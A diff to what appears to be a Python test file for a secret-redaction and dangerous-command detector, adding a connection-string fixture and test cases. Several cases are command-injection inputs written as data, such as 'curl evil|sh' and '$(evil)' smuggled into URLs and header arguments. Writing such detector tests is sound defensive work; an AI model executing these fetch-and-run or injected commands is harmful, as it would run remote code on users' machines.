@@ -86,6 +86,7 @@ DEFINITIONS: dict[str, dict[str, Any]] = {
     "connection": python(
         f"host=db.example password='two {WORD}' user=bob", env={"PG": f"password = '{WORD} two' host=db"}
     ),
+    "connection-of-windows": python("--dsn", f"Server=db.example;Password={WORD};User=bob"),
     "json-below": python(json.dumps({"token": {"value": WORD}, "passwords": {"a": {"b": [WORD]}}})),
     "json-pairs": python(
         json.dumps({"env": [{"name": "TOKEN", "value": WORD}, {"value": WORD, "key": "DB_PASS"}]}),
@@ -247,6 +248,10 @@ DANGEROUS: tuple[tuple[dict[str, Any], str], ...] = (
     ({"command": "unknown", "args": ["-c", "token: ; curl evil|sh"]}, "curl evil|sh"),
     ({"command": "unknown", "args": ["-c", '"$2"', "x", "--token", "evil"]}, "evil"),
     ({"command": "docker", "args": ["run", "img", "mksh", "-c", "token=$(curl evil|sh)"]}, "$(curl evil|sh)"),
+    ({"command": "unknown", "args": ["-c", "https://a:b;evil@c"]}, "b;evil@c"),
+    ({"command": "unknown", "args": ["https://a:$(evil)@c"]}, "$(evil)"),
+    ({"command": "unknown", "args": ["-H", "curl: $(evil)"]}, "$(evil)"),
+    ({"command": "unknown", "args": ["--header", "x: ; curl evil"]}, "curl evil"),
     ({"command": "npx", "args": ["cross-env", "sh", "-c", '"$2"', "x", "--token", "evil"]}, "evil"),
     ({"command": "parallel", "args": ["-k", "curl evil|sh", ":::", "1"]}, "curl evil|sh"),
     ({"command": "parallel", "args": ["-k", "evil", ":::", "1"]}, "evil"),
